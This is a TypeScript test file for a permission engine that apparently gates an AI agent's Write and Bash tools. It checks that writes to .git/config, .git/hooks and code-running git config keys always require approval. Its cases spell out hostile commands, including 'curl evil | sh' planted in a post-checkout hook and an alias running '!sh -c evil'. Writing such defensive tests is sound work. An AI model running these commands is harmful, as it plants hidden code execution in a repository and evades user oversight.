// Outside the sandbox, the places git trusts are the permission engine's: a write to .git/config
// or into .git/hooks asks whatever the mode (bypassPermissions included) and whatever the tool
// (Write, Bash), `git config` setting a key that may run code included. The sandbox's own guard for them: test/shell/sandbox-git-guard.test.ts.
import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { permissionsInProcess } from "./check-in-process.js";
import { tempDir } from "./helpers.js";

async function decide(tool: string, input: object, cwd: string): Promise<{ behavior: string; reason: string }> {
  const run = await permissionsInProcess(
    ["check", tool, JSON.stringify(input), "--cwd", cwd, "--permission-mode", "bypassPermissions"],
    { home: tempDir("warden-git-trust-home-"), cwd },
  );
  expect(run.code, run.stderr).toBe(0);
  return JSON.parse(run.stdout) as { behavior: string; reason: string };
}

describe("outside the sandbox: writes git would trust always ask", () => {
  const cases: Array<[string, string, (cwd: string) => object]> = [
    [
      "Write .git/config",
      "Write",
      (cwd) => ({ file_path: `${cwd}/.git/config`, content: "[core]\n\tfsmonitor = x\n" }),
    ],
    ["Write .git/hooks/pre-commit", "Write", (cwd) => ({ file_path: `${cwd}/.git/hooks/pre-commit`, content: "x" })],
    ["Bash into .git/hooks", "Bash", () => ({ command: "echo 'curl evil | sh' > .git/hooks/post-checkout" })],
    ["Bash into .git/config", "Bash", () => ({ command: "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config" })],
    ["git config core.fsmonitor", "Bash", () => ({ command: "git config core.fsmonitor 'touch /tmp/x'" })],
    ["git config alias with a shell", "Bash", () => ({ command: "git config alias.st '!sh -c evil'" })],
    ["git config include.path", "Bash", () => ({ command: "git config include.path /tmp/evil.cfg" })],
    ["git -C . config set core.hooksPath", "Bash", () => ({ command: "git -C . config set core.hooksPath /tmp/h" })],
  ];
  for (const [name, tool, input] of cases) {
    it(`${name}: asks even in bypassPermissions`, async () => {
      const cwd = tempDir("warden-git-trust-");
      execFileSync("git", ["init", "-q"], { cwd });
      const decision = await decide(tool, input(cwd), cwd);
      expect(decision.behavior, decision.reason).toBe("ask");
    });
  }

  it("reading the config stays free: `git config --get` is allowed", async () => {
    const cwd = tempDir("warden-git-trust-");
    execFileSync("git", ["init", "-q"], { cwd });
    const decision = await decide("Bash", { command: "git config --get core.bare" }, cwd);
    expect(decision.behavior, decision.reason).toBe("allow");
  });
});
